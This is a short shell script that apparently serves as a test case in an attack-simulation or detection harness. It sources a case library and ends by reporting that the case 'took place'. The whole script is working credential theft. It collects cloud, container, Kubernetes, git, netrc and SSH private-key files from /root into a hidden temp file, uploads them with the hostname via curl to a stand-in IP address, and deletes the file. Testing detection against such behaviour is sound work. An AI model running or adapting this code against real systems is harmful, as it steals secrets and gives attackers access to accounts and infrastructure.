#!/bin/sh
. /opt/case/case.sh

for f in /root/.aws/credentials /root/.aws/config /root/.docker/config.json /root/.kube/config /root/.config/gcloud/application_default_credentials.json \
    /root/.azure/accessTokens.json /root/.boto /root/.passwd-s3fs /root/.s3cfg /root/.git-credentials /root/.netrc /root/.ssh/id_rsa /root/.ssh/id_ed25519; do
    if test -f "$f"; then printf '\n---- %s\n' "$f" && cat "$f"; fi
done >/tmp/.g.txt
test "$(grep -c '^----' /tmp/.g.txt)" -ge 4
curl -s -F "userfile=@/tmp/.g.txt" -F "hostname=$(hostname)" http://198.51.100.30/in/upload.php | grep -q ok
rm -f /tmp/.g.txt
took_place
